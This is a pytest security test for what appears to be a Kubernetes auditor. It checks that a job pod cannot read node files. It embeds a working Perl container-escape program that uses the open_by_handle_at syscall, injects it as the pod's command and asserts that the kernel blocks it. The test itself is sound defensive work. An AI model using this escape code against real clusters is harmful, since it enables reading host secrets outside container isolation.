"""Whose image a look runs in, that one must not read the node's files by it.

The attacker is the author of an image, of values or of a volume: their program runs in our pod, with its rights.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from auditor.apply import look_job
from auditor.apply.tools import Tools, open_tools
from auditor.cluster.connect import connect
from auditor.inventory import looking
from auditor.model.action import ChangeOwnership, Placement
from auditor.model.kubernetes import JOBS
from auditor.model.ownership import Owner
from auditor.settings import ClusterSettings
from tests.steps import ownership

pytestmark = pytest.mark.cluster

Run = Callable[..., str]
IMAGE = "docker.io/posit/package-manager:2026.08.0-ubuntu-24.04"
SECRET = "a file of the node, outside of every volume"
OPEN = r"""
my ($handle_of, $by_handle) = (`uname -m` =~ /x86_64/) ? (303, 304) : (264, 265);
my ($what, $where, $handle) = @ARGV;
if ($what eq "name") {
    my ($known, $mount) = (pack("IiC128", 128, 0), pack("i", 0));
    syscall($handle_of, -100, $where, $known, $mount, 0) == 0 or die "name_to_handle_at: $!\n";
    my ($size) = unpack("I", $known);
    print unpack("H*", substr($known, 0, 8 + $size)), "\n";
} else {
    open(my $mount, "<", $where) or die "open $where: $!\n";
    my $known = pack("H*", $handle);
    my $opened = syscall($by_handle, fileno($mount), $known, 0);
    $opened >= 0 or die "open_by_handle_at: $!\n";
    open(my $file, "<&=", $opened) or die "fdopen: $!\n";
    print "stolen: ", <$file>;
}
"""
"""Debian's own perl calls the kernel without a module. `name FILE` prints a handle, which a person can guess as well:
an inode and its generation; `open MOUNT HANDLE` prints the file behind it."""


@pytest.fixture
def tools(kubeconfig: Path, images: list[str]) -> Iterator[Tools]:
    with open_tools(connect(ClusterSettings(kubeconfig=str(kubeconfig)))) as opened:
        yield opened


@pytest.fixture
def would(kubectl: Run, make_namespace: Callable[..., str], local_volume: Callable[..., Any]) -> ChangeOwnership:
    """A look in a namespace that admits no more than Pod Security level baseline; its volume has closed folders and
    the attacker's program."""
    namespace = make_namespace("look", {"pod-security.kubernetes.io/enforce": "baseline"})
    volume = local_volume(namespace, files=120, owner="999:999")
    volume.shell(f"""
        cd '{volume.path}' && mkdir -p closed/within tool && touch closed/within/wrong closed/within/right
        chown -R 4321:4321 closed && chown 999:999 closed/within/right && chmod -R go= closed && chmod 700 closed
        cp "$(command -v perl)" tool/perl && cp $(ldd tool/perl | grep -o '/[^ ]*') tool && chown -R 999:999 tool
    """)
    volume.shell(f"printf '%s' '{SECRET}' > '{volume.path}.secret' && chmod 600 '{volume.path}.secret'")
    uid = kubectl("get", "persistentvolumeclaim", "data", "-n", namespace, "-o", "jsonpath={.metadata.uid}")
    return ownership("data", namespace, claim_uid=uid, placement=Placement(image=IMAGE))


def finished(kubectl: Run, job: str, namespace: str) -> str:
    """What its pod wrote."""
    for _ in range(100):
        pods = json.loads(kubectl("get", "pods", "-n", namespace, "-l", f"job-name={job}", "-o", "json"))["items"]
        if pods and pods[0]["status"]["phase"] in ("Succeeded", "Failed"):
            return kubectl("logs", pods[0]["metadata"]["name"], "-n", namespace)
        time.sleep(0.2)
    pytest.fail(kubectl("get", "events,pods", "-n", namespace))


def test_a_program_in_the_pod_of_a_look_opens_no_file_of_the_node(
    would: ChangeOwnership, tools: Tools, kubectl: Run, node_shell: Callable[[str], str], state_folder: Path
) -> None:
    namespace = would.claim.namespace
    path = state_folder / "volumes" / f"{namespace}-data"
    program = OPEN.replace("'", "'\\''")
    handle = node_shell(f"perl -e '{program}' name '{path}.secret'").strip()
    assert SECRET in node_shell(f"perl -e '{program}' open '{path}' {handle}")
    body = look_job.job(would)
    body["spec"]["backoffLimit"] = 0
    pod = body["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    loader = "/volume/tool/$(ls /volume/tool | grep ^ld-)"
    attack = f'exec {loader} --library-path /volume/tool /volume/tool/perl -e "$0" open /volume {handle} 2>&1'
    container["command"] = ["sh", "-c", attack, OPEN.replace("$(", "$$(")]
    pod["volumes"], container["volumeMounts"] = pod["volumes"][:1], container["volumeMounts"][:1]
    tools.writer.create(JOBS, body)
    said = finished(kubectl, body["metadata"]["name"], namespace)
    node_shell(f"rm '{path}.secret'")
    assert "stolen" not in said
    assert "open_by_handle_at: Operation not permitted" in said


def test_a_look_sees_all_of_what_is_closed_to_others(would: ChangeOwnership, tools: Tools, kubectl: Run) -> None:
    said = look_job.look(would, tools, lambda _: None)
    sight = looking.from_job(said, would.claim).sight
    assert sight.exhaustive
    assert [(row.owner, row.count) for row in sight.wrong] == [(Owner(4321, 4321), 3)]
    assert kubectl("get", "jobs,pods", "-n", would.claim.namespace, "-o", "name") == ""
